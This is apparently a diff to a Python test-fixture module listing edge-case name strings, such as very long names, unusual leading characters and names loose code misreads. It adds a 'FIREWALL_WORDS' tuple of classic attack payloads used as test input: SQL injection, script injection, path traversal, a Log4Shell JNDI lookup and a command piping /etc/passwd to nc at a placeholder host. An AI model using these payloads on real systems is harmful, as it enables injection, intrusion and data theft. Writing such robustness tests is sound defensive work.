@@ -52,7 +52,35 @@ LONG_NAME_CORNERS: Final = (
     "z" * 1100,
     "w" * 1200,
     "v" * 4200,
-    "u" * 4300,
+    "u" * 8000,
+)
+# In front of a name: what other formats begin a value with, and what is not a letter of one byte.
+FRONT_CORNERS: Final = (
+    "-",
+    "=",
+    "'",
+    '"',
+    "@",
+    "#",
+    "/",
+    "[",
+    "\U0001f98a",
+    "0",
+    "\u00e9",
+    "+",
+    ".",
+    "$",
+    "{",
+    "_",
+)
+# What firewalls take for an attack, and text does not have to fear.
+FIREWALL_WORDS: Final = (
+    " ' OR '1'='1'; DROP TABLE pets; --",
+    " UNION SELECT NULL, version() FROM information_schema.tables",
+    " <script>alert(1)</script><img src=x onerror=alert(1)>",
+    " ../../../../etc/passwd",
+    " ${jndi:ldap://animals.example/a}",
+    " ; cat /etc/passwd | nc animals.example 80",
 )
 # Names that loosely typed code reads as numbers, booleans, nulls, dates, quoted texts and
 # formulas.
@@ -72,6 +100,13 @@ LOOKALIKE_NAMES: Final = (
     # Properties that every JavaScript object has.
     "__proto__",
     "constructor",
+    # Names of one letter, or of none.
+    "x",
+    "\U0001f98a",
+    "-",
+    "undefined",
+    "NaN",
+    "[]",
 )
 OUTER_SPACE_NAMES: Final = (" inner  space ", "\tname\n")
 
